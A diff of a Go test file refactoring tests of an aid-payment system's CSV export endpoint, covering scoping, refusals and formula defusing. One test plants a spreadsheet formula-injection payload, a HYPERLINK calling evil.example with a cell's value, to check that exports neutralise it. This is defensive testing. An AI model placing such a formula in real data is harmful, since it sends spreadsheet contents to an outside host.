@@ -18,7 +18,6 @@ import (
 	"aidtrail/domain/casework"
 	"aidtrail/domain/event"
 	"aidtrail/domain/payment"
-	"aidtrail/internal/testkit/apptest"
 )
 
 // paymentExportMatrixRows: GET /v1/payments/export of station A's and
@@ -69,52 +68,48 @@ func (s *testAPI) exportURL(unit string) string {
 // subtree, in the order instructed, each with its case, payee, account and
 // amount, and parses back; payments the bank has answered are left out.
 func TestExportPaymentsOverHTTP(t *testing.T) {
-	for _, kind := range apptest.Kinds {
-		t.Run(kind, func(t *testing.T) {
-			t.Parallel()
-			f := newOrgOverHTTP(t, kind)
-			s, root := f.api, f.rootToken()
-			empW := f.employee(f.workshopA)
-			inA := []string{f.instructed(f.empA), f.instructed(empW)}
-			inB := f.instructed(f.empB)
-			confirmed, failed := f.instructed(f.empA), f.instructed(empW)
-			s.must(http.StatusOK, http.MethodPost, "/v1/payments/"+confirmed+"/confirm", root, map[string]any{"bank_ref": "BOC-X1"})
-			s.must(http.StatusOK, http.MethodPost, "/v1/payments/"+failed+"/fail", root, map[string]any{"reason": "账户冻结"})
-			inA = append(inA, f.instructed(f.empA))
+	eachStore(t, func(t *testing.T, f *orgOverHTTP) {
+		s, root := f.api, f.rootToken()
+		empW := f.employee(f.workshopA)
+		inA := []string{f.instructed(f.empA), f.instructed(empW)}
+		inB := f.instructed(f.empB)
+		confirmed, failed := f.instructed(f.empA), f.instructed(empW)
+		s.must(http.StatusOK, http.MethodPost, "/v1/payments/"+confirmed+"/confirm", root, map[string]any{"bank_ref": "BOC-X1"})
+		s.must(http.StatusOK, http.MethodPost, "/v1/payments/"+failed+"/fail", root, map[string]any{"reason": "账户冻结"})
+		inA = append(inA, f.instructed(f.empA))
 
-			for _, c := range []struct {
-				name, unit, token string
-				want              []string
-			}{
-				{"station A by the root's administrator", f.stationA, root, inA},
-				{"station A by its own administrator", f.stationA, f.tokens[actorAdminA], inA},
-				{"the workshop below A", f.workshopA, root, inA[1:2]},
-				{"station B", f.stationB, root, []string{inB}},
-				{"the whole bureau", f.root, root, []string{inA[0], inA[1], inB, inA[2]}},
-				{"a unit without payments", f.workshopB, root, nil},
-			} {
-				rows := exportedRows(t, s.do(http.MethodGet, s.exportURL(c.unit), c.token, nil))
-				var got []string
-				for _, r := range rows {
-					got = append(got, r[0])
-					v := s.must(http.StatusOK, http.MethodGet, "/v1/payments/"+r[0], root, nil)
-					want := []string{r[0], v["case_id"].(string), v["employee_id"].(string), "6222020200112233445",
-						strconv.FormatInt(int64(v["amount_fen"].(float64)), 10), payment.Currency}
-					if !slices.Equal(r, want) {
-						t.Errorf("%s: row %v, want %v", c.name, r, want)
-					}
-				}
-				if !slices.Equal(got, c.want) {
-					t.Errorf("%s: exported %v, want %v", c.name, got, c.want)
+		for _, c := range []struct {
+			name, unit, token string
+			want              []string
+		}{
+			{"station A by the root's administrator", f.stationA, root, inA},
+			{"station A by its own administrator", f.stationA, f.tokens[actorAdminA], inA},
+			{"the workshop below A", f.workshopA, root, inA[1:2]},
+			{"station B", f.stationB, root, []string{inB}},
+			{"the whole bureau", f.root, root, []string{inA[0], inA[1], inB, inA[2]}},
+			{"a unit without payments", f.workshopB, root, nil},
+		} {
+			rows := exportedRows(t, s.do(http.MethodGet, s.exportURL(c.unit), c.token, nil))
+			var got []string
+			for _, r := range rows {
+				got = append(got, r[0])
+				v := s.must(http.StatusOK, http.MethodGet, "/v1/payments/"+r[0], root, nil)
+				want := []string{r[0], v["case_id"].(string), v["employee_id"].(string), "6222020200112233445",
+					strconv.FormatInt(int64(v["amount_fen"].(float64)), 10), payment.Currency}
+				if !slices.Equal(r, want) {
+					t.Errorf("%s: row %v, want %v", c.name, r, want)
 				}
 			}
-			// Status defaults to instructed.
-			rec := s.do(http.MethodGet, "/v1/payments/export?unit_id="+f.stationB, root, nil)
-			if rows := exportedRows(t, rec); len(rows) != 1 || rows[0][0] != inB {
-				t.Errorf("without status: %v, want %s", rows, inB)
+			if !slices.Equal(got, c.want) {
+				t.Errorf("%s: exported %v, want %v", c.name, got, c.want)
 			}
-		})
-	}
+		}
+		// Status defaults to instructed.
+		rec := s.do(http.MethodGet, "/v1/payments/export?unit_id="+f.stationB, root, nil)
+		if rows := exportedRows(t, rec); len(rows) != 1 || rows[0][0] != inB {
+			t.Errorf("without status: %v, want %s", rows, inB)
+		}
+	})
 }
 
 // A value that a spreadsheet would read as a formula reaches the bank's
@@ -123,40 +118,36 @@ func TestExportPaymentsOverHTTP(t *testing.T) {
 // record could hold it: in the sealed account of a payment's instruction,
 // written to the store directly, sealed under the payee's key.
 func TestExportPaymentsDefusesFormulas(t *testing.T) {
-	for _, kind := range apptest.Kinds {
-		t.Run(kind, func(t *testing.T) {
-			t.Parallel()
-			f := newOrgOverHTTP(t, kind)
-			s := f.api
-			const formula = `=HYPERLINK("http://evil.example/?"&A1,"6222")`
-			body := grantBody(f.empB)
-			body["description"] = formula
-			caseID := s.create("/v1/cases", f.cases().cwRoot, body)
-			history, err := s.env.Store.ReadStream(t.Context(), casework.CaseStream(uuid.MustParse(caseID)), 1)
-			if err != nil {
-				t.Fatal(err)
-			}
-			var opened casework.CaseOpened
-			if err := json.Unmarshal(history[0].Data, &opened); err != nil {
-				t.Fatal(err)
-			}
-			id := uuid.New()
-			data, err := json.Marshal(payment.Instructed{PaymentID: id, CaseID: opened.CaseID, EmployeeID: opened.EmployeeID,
-				BudgetID: uuid.MustParse(f.cases().budgets["aid.grant"]), AmountFen: grantFen,
-				BankAccount: payment.Sealed(opened.Description)})
-			if err != nil {
-				t.Fatal(err)
-			}
-			if _, err := s.env.Store.Append(t.Context(), payment.Stream(id), event.Exact(0),
-				event.Event{ID: event.NewID(), Type: payment.TypeInstructed, Data: data}); err != nil {
-				t.Fatal(err)
-			}
-			rows := exportedRows(t, s.do(http.MethodGet, s.exportURL(f.stationB), f.rootToken(), nil))
-			if len(rows) != 1 || rows[0][0] != id.String() || rows[0][3] != "'"+formula {
-				t.Fatalf("exported %v, want the account as '%s", rows, formula)
-			}
-		})
-	}
+	eachStore(t, func(t *testing.T, f *orgOverHTTP) {
+		s := f.api
+		const formula = `=HYPERLINK("http://evil.example/?"&A1,"6222")`
+		body := grantBody(f.empB)
+		body["description"] = formula
+		caseID := s.create("/v1/cases", f.cases().cwRoot, body)
+		history, err := s.env.Store.ReadStream(t.Context(), casework.CaseStream(uuid.MustParse(caseID)), 1)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var opened casework.CaseOpened
+		if err := json.Unmarshal(history[0].Data, &opened); err != nil {
+			t.Fatal(err)
+		}
+		id := uuid.New()
+		data, err := json.Marshal(payment.Instructed{PaymentID: id, CaseID: opened.CaseID, EmployeeID: opened.EmployeeID,
+			BudgetID: uuid.MustParse(f.cases().budgets["aid.grant"]), AmountFen: grantFen,
+			BankAccount: payment.Sealed(opened.Description)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := s.env.Store.Append(t.Context(), payment.Stream(id), event.Exact(0),
+			event.Event{ID: event.NewID(), Type: payment.TypeInstructed, Data: data}); err != nil {
+			t.Fatal(err)
+		}
+		rows := exportedRows(t, s.do(http.MethodGet, s.exportURL(f.stationB), f.rootToken(), nil))
+		if len(rows) != 1 || rows[0][0] != id.String() || rows[0][3] != "'"+formula {
+			t.Fatalf("exported %v, want the account as '%s", rows, formula)
+		}
+	})
 }
 
 // Refusals: without budgets.manage at the unit, 403 and the refusal on
@@ -164,58 +155,54 @@ func TestExportPaymentsDefusesFormulas(t *testing.T) {
 // an erased payee, 409 naming the payment. None writes anything but the
 // record of a refusal.
 func TestExportPaymentsRefusals(t *testing.T) {
-	for _, kind := range apptest.Kinds {
-		t.Run(kind, func(t *testing.T) {
-			t.Parallel()
-			f := newOrgOverHTTP(t, kind)
-			s, root := f.api, f.rootToken()
-			f.instructed(f.empA)
-			for _, actor := range []string{actorApprover, actorCaseworker, actorAuditor, actorAnalyst, actorEmployee} {
-				before := s.head()
-				problemOf(t, s.do(http.MethodGet, s.exportURL(f.stationA), f.tokens[actor], nil), http.StatusForbidden, codeForbidden)
-				if after := s.eventsAfter(before); len(after) != 1 || after[0].Type != access.TypeAccessDenied {
-					t.Errorf("%s refused: wrote %v, want the refusal's record", actor, types(after))
-				}
-			}
+	eachStore(t, func(t *testing.T, f *orgOverHTTP) {
+		s, root := f.api, f.rootToken()
+		f.instructed(f.empA)
+		for _, actor := range []string{actorApprover, actorCaseworker, actorAuditor, actorAnalyst, actorEmployee} {
 			before := s.head()
-			problemOf(t, s.do(http.MethodGet, s.exportURL(f.stationB), f.tokens[actorAdminA], nil), http.StatusForbidden, codeForbidden)
+			problemOf(t, s.do(http.MethodGet, s.exportURL(f.stationA), f.tokens[actor], nil), http.StatusForbidden, codeForbidden)
 			if after := s.eventsAfter(before); len(after) != 1 || after[0].Type != access.TypeAccessDenied {
-				t.Errorf("administrator of A on B: wrote %v, want the refusal's record", types(after))
+				t.Errorf("%s refused: wrote %v, want the refusal's record", actor, types(after))
 			}
+		}
+		before := s.head()
+		problemOf(t, s.do(http.MethodGet, s.exportURL(f.stationB), f.tokens[actorAdminA], nil), http.StatusForbidden, codeForbidden)
+		if after := s.eventsAfter(before); len(after) != 1 || after[0].Type != access.TypeAccessDenied {
+			t.Errorf("administrator of A on B: wrote %v, want the refusal's record", types(after))
+		}
 
-			for _, c := range []struct {
-				query  string
-				status int
-				code   string
-				field  string
-			}{
-				{"status=confirmed&unit_id=" + f.stationA, 400, codeValidation, "status"},
-				{"status=instructed&status=instructed&unit_id=" + f.stationA, 400, codeValidation, "status"},
-				{"status=instructed", 400, codeValidation, "unit_id"},
-				{"status=instructed&unit_id=station-a", 400, codeValidation, "unit_id"},
-				{"status=instructed&unit_id=" + f.stationA + "&min_position=-1", 400, codeValidation, "min_position"},
-				{"status=instructed&unit_id=" + uuid.NewString(), 404, codeNotFound, ""},
-			} {
-				before := s.head()
-				p := problemOf(t, s.do(http.MethodGet, "/v1/payments/export?"+c.query, root, nil), c.status, c.code)
-				if p.Field != c.field {
-					t.Errorf("%s: field %q, want %q (%s)", c.query, p.Field, c.field, p.Detail)
-				}
-				if after := s.head(); after != before {
-					t.Errorf("%s wrote %v", c.query, types(s.eventsAfter(before)))
-				}
-			}
-
-			pid := f.instructed(f.empB)
-			s.must(http.StatusOK, http.MethodPost, "/v1/employees/"+f.empB+"/erase", root, map[string]any{"reason": "本人申请删除"})
-			before = s.head()
-			p := problemOf(t, s.do(http.MethodGet, s.exportURL(f.stationB), root, nil), http.StatusConflict, codeInvalidState)
-			if !strings.Contains(p.Detail, pid) {
-				t.Errorf("refusal %q does not name payment %s", p.Detail, pid)
+		for _, c := range []struct {
+			query  string
+			status int
+			code   string
+			field  string
+		}{
+			{"status=confirmed&unit_id=" + f.stationA, 400, codeValidation, "status"},
+			{"status=instructed&status=instructed&unit_id=" + f.stationA, 400, codeValidation, "status"},
+			{"status=instructed", 400, codeValidation, "unit_id"},
+			{"status=instructed&unit_id=station-a", 400, codeValidation, "unit_id"},
+			{"status=instructed&unit_id=" + f.stationA + "&min_position=-1", 400, codeValidation, "min_position"},
+			{"status=instructed&unit_id=" + uuid.NewString(), 404, codeNotFound, ""},
+		} {
+			before := s.head()
+			p := problemOf(t, s.do(http.MethodGet, "/v1/payments/export?"+c.query, root, nil), c.status, c.code)
+			if p.Field != c.field {
+				t.Errorf("%s: field %q, want %q (%s)", c.query, p.Field, c.field, p.Detail)
 			}
 			if after := s.head(); after != before {
-				t.Errorf("a refused export wrote %v", types(s.eventsAfter(before)))
+				t.Errorf("%s wrote %v", c.query, types(s.eventsAfter(before)))
 			}
-		})
-	}
+		}
+
+		pid := f.instructed(f.empB)
+		s.must(http.StatusOK, http.MethodPost, "/v1/employees/"+f.empB+"/erase", root, map[string]any{"reason": "本人申请删除"})
+		before = s.head()
+		p := problemOf(t, s.do(http.MethodGet, s.exportURL(f.stationB), root, nil), http.StatusConflict, codeInvalidState)
+		if !strings.Contains(p.Detail, pid) {
+			t.Errorf("refusal %q does not name payment %s", p.Detail, pid)
+		}
+		if after := s.head(); after != before {
+			t.Errorf("a refused export wrote %v", types(s.eventsAfter(before)))
+		}
+	})
 }
